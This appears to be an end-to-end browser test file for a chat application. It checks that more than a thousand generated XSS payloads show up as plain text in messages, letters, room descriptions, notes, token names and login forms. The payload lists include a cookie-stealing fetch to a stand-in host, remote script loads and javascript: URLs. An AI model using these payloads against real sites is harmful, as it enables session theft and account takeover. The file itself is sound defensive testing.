"""A thousand hostile texts in every place where members write: all are shown as text, and nothing runs."""

import itertools
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from beseda.core.caller import Caller
from beseda.domain.errors import BesedaError
from beseda.domain.ids import ContactId, RoomId
from beseda.domain.rooms import Links
from beseda.domain.sessions import Handle
from beseda.domain.text import one_line
from beseda.domain.tokens import TOKENS_MAX, Scope
from beseda.testing import BesedaServer
from e2e.browser import PASSWORD, Visitor, members, needs_browser

pytestmark = [needs_browser, pytest.mark.long, pytest.mark.timeout(600)]
DEEDS = ("alert(1)", "window.pwned=1", "fetch('//example.org/'+document.cookie)", "top.location='//example.org'")
SHAPES = (
    "<script>{}</script>",
    "<ScRiPt src=//example.org/x.js></sCrIpT>{}",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><script>{}</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>click</a>",
    "<a href='data:text/html,<script>{}</script>'>click</a>",
    "javascript:{}",
    "JaVaScRiPt://example.org/%0a{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<form action=javascript:{}><button>x",
    "<button form=say formaction=javascript:{}>x",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<base href=//example.org/>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//example.org/x.css>{}",
    "<style>@import '//example.org/x.css';</style>{}",
    "<div style=background:url(javascript:{})>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea></textarea><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "'\"><script>{}</script>",
    "' onmouseover='{}",
    '" autofocus onfocus="{}',
    "`-{}-`",
    "';{}//",
    '";{}//',
    "\\';{}//",
    "${{{}}}",
    "{{{{{}}}}}",
    "{{% {} %}}",
    "#{{{}}}",
    "<%= {} %>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\t>{}</script\t>",
    "<\u200bscript>{}</script>",
    '{{"__html":"<img src=x onerror={}>"}}',
    "__proto__[innerHTML]={}",
    "constructor.constructor('{}')()",
    "{{actor}} {{text}} {}",
    "\u202e<script>{}</script>",
)
AROUND = ("{}", "a {} b", "{} www.example.org", "Ž{}")
TEXTS = [around.format(shape.format(deed)) for around, shape, deed in itertools.product(AROUND, SHAPES, DEEDS)]
AT_ONCE = 40
WATCH = """addEventListener("securitypolicyviolation", (event) => {
  (window.violations ??= []).push(event.violatedDirective);
});"""


@pytest.fixture(scope="module")
def server() -> Iterator[BesedaServer]:
    with BesedaServer() as running:
        running.run(running.core.rooms.add("Zahrada"))
        members(running, "Alena", "Brana")
        yield running


@pytest.fixture
def alena(server: BesedaServer, browser: Browser) -> Iterator[Visitor]:
    """Who sees everything; at the end nothing has run, been refused by the policy, or left the server."""
    visitor = Visitor(browser, server.url)
    visitor.context.add_init_script(WATCH)
    asked: list[str] = []
    visitor.page.on("request", lambda request: asked.append(request.url))
    yield visitor
    assert visitor.problems == []
    assert visitor.page.evaluate("[window.pwned, window.violations]") == [None, None]
    assert {url for url in asked if not url.startswith(server.url)} == set()
    visitor.context.close()


def caller(server: BesedaServer, nick: str) -> Caller:
    signed_in = server.run(server.core.auth.sign_in(nick, PASSWORD, kind=Handle.COOKIE, address="192.0.2.7"))
    return Caller("192.0.2.7", signed_in.account, signed_in.session)


def shown(page: Page, where: str) -> list[str]:
    found: list[str] = page.locator(where).all_text_contents()
    return found


def strange(page: Page) -> Any:
    """Elements, attributes and addresses that no page of ours has; the height of where one writes is a style."""
    return page.evaluate(
        """() => [...document.querySelectorAll("body *:not(textarea)")].flatMap((each) => [
          ...(/^(iframe|object|embed|base|style|video|math|template)$/i.test(each.tagName) ? [each.tagName] : []),
          ...each.getAttributeNames().filter((name) => /^(on.*|style|srcdoc|formaction)$/.test(name)),
          ...(/^\\s*(javascript|data|vbscript):/i.test(each.getAttribute("href") ?? "") ? ["href"] : []),
        ])"""
    )


def batches() -> Iterator[list[str]]:
    for start in range(0, len(TEXTS), AT_ONCE):
        yield TEXTS[start : start + AT_ONCE]


def test_there_are_a_thousand() -> None:
    assert len(set(TEXTS)) >= 1000


def test_lines_of_a_room_and_what_is_found_there(server: BesedaServer, alena: Visitor) -> None:
    alena.sign_in("Alena", "Zahrada")
    core, brana = server.core, caller(server, "Brana")
    server.run(core.rooms.enter(brana, "Zahrada"))
    server.run(core.settings.change(caller(server, "Alena"), RoomId(1), links=Links.ALL))
    for batch in batches():
        kept = []
        for text in batch:
            server.clock.move(1)
            kept.append(server.run(core.messages.post(brana, RoomId(1), text)).text)
        expect(alena.page.locator("#lines .said").last).to_have_text(kept[-1])
        assert shown(alena.page, "#lines .said")[-len(kept) :] == kept
        assert strange(alena.page) == []
    server.run(core.search_index.settle())
    alena.page.get_by_role("button", name="Search").click()
    for word in ("script", "onerror", "javascript", "pwned", "<script>", "alert 1"):
        server.clock.move(5)
        alena.page.fill("#seek", word)
        expect(alena.page.locator(".hit").first).to_be_visible()
    expect(alena.page.locator(".hit").nth(20)).to_be_visible()
    assert strange(alena.page) == []


def test_letters(server: BesedaServer, alena: Visitor) -> None:
    alena.sign_in("Alena", "-/letters?with=2")
    core, brana, me = server.core, caller(server, "Brana"), server.run(server.core.accounts.find_nick("Alena"))
    for batch in batches():
        kept = []
        for text in batch:
            server.clock.move(2)
            kept.append(server.run(core.mail.send(brana, me.id, text)).letter.text)
        expect(alena.page.locator(".letter .said").last).to_have_text(kept[-1])
        expect(alena.page.locator(".contact .snippet").first).to_have_text(kept[-1])
        assert shown(alena.page, ".letter .said")[-len(kept) :] == kept
        assert strange(alena.page) == []
    server.run(core.search_index.settle())
    alena.page.fill("#seek", "script")
    expect(alena.page.locator(".contacts h2")).to_have_text("Letters")
    assert strange(alena.page) == []
    server.run(core.mailbox.write(caller(server, "Alena"), _contact(server), TEXTS[0]))
    alena.page.reload()
    expect(alena.page.locator("#text")).to_have_value(TEXTS[0])


def _contact(server: BesedaServer) -> ContactId:
    (contact,) = server.run(server.core.mail.list_contacts(caller(server, "Alena")))
    return contact.id


def test_names_and_descriptions_of_rooms(server: BesedaServer, alena: Visitor) -> None:
    """In the list, and some of them in the room itself, its dialog and its page."""
    core, named = server.core, 0
    for number, text in enumerate(TEXTS):
        server.run(core.rooms.add(f"Room {number}", description=text[:300]))
        with suppress(BesedaError):
            server.run(core.rooms.add(text[:50], description=text))
            named += 1
    alena.sign_in("Alena")
    alena.page.goto("/")
    told = alena.page.evaluate(
        "() => [...document.querySelectorAll('#rooms [data-room] > a')].map((e) => e.textContent)"
    )
    everything = "\n".join(told)
    assert [text for text in TEXTS if one_line(text) not in everything] == []
    assert strange(alena.page) == []
    for number in range(0, len(SHAPES) * len(DEEDS), len(DEEDS)):
        room = server.run(core.rooms.find_by_name(f"Room {number}"))
        assert room is not None
        alena.page.goto(f"/info/{room.id}")
        expect(alena.page.locator(".lead")).to_have_text(one_line(TEXTS[number]))
        assert strange(alena.page) == []
    print(f"{named} of them are names of rooms, too")  # noqa: T201


def test_notes(server: BesedaServer, alena: Visitor) -> None:
    core, me = server.core, caller(server, "Alena")
    members(server, *(f"M{number}x" for number in range(len(TEXTS))))
    for number, text in enumerate(TEXTS):
        about = server.run(core.accounts.find_nick(f"M{number}x"))
        server.run(core.notes.write(me, about.id, text))
    alena.sign_in("Alena")
    alena.page.goto("/-/account/people")
    told = "\n".join(shown(alena.page, ".rows li"))
    assert [text for text in TEXTS if one_line(text) not in told] == []
    assert strange(alena.page) == []


def test_names_of_tokens(server: BesedaServer, alena: Visitor) -> None:
    core, me = server.core, server.run(server.core.accounts.find_nick("Alena"))
    alena.sign_in("Alena")
    names = list(dict.fromkeys(text[:50].strip() for text in TEXTS))
    for start in range(0, len(names), TOKENS_MAX):
        made = []
        for name in names[start : start + TOKENS_MAX]:
            with suppress(BesedaError):
                made.append(server.run(core.tokens.add(me.id, name, Scope()))[0])
        alena.page.goto("/-/account/tokens")
        assert shown(alena.page, ".rows strong") == [token.name for token in made]
        assert strange(alena.page) == []
        for token in made:
            server.run(core.tokens.revoke(token.id))


@pytest.mark.parametrize(("path", "field", "shapes"), [("/login?to=Zahrada", "#email", 0), ("/-/return", "#nick", 1)])
def test_what_forms_give_back(alena: Visitor, path: str, field: str, shapes: int) -> None:
    """What was filled in stands in the form again; one of each shape, in that of one page or the other."""
    alena.page.goto(path)
    for shape in SHAPES[shapes::2]:
        text = shape.format("alert(1)")
        alena.page.locator(field).evaluate("(each, text) => { each.value = text; }", text)
        alena.page.fill("#password", "x" * 12)
        with alena.page.expect_navigation():
            alena.page.press("#password", "Enter")
        expect(alena.page.get_by_role("alert")).to_be_visible()
        expect(alena.page.locator(field)).to_have_value(text)
        assert strange(alena.page) == []
